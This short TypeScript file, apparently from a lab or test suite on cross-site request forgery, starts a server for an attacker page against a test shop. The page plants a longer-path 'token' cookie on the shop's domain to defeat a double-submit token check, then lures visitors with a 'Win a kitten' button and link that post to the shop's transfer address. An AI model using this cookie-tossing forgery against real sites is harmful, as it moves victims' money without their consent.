// A page with a form and a link that send its visitors' money, on a site of the attacker's own and
// on a sister domain of the shop, such as a blog with a hole.

import { createServer } from "node:http";
import { listening } from "#patterns/listening";

// The shop's own cookie has the path "/". The browser sends the one with the longer path first, and
// the first is what nearly every server reads. From a foreign site the browser takes no such cookie.
const PLANTED = "token=planted; Domain=shop.test; Path=/transfer";

/** Opens the page, which aims at an address of the shop. */
export async function openAttacker(transfer: string) {
  return listening(
    createServer((_request, response) => {
      response.setHeader("content-type", "text/html");
      response.setHeader("set-cookie", PLANTED);
      response.end(`
        <form method="post" action="${transfer}">
          <input type="hidden" name="token" value="planted">
          <button>Win a kitten</button>
        </form>
        <a href="${transfer}">More kittens</a>`);
    }),
  );
}
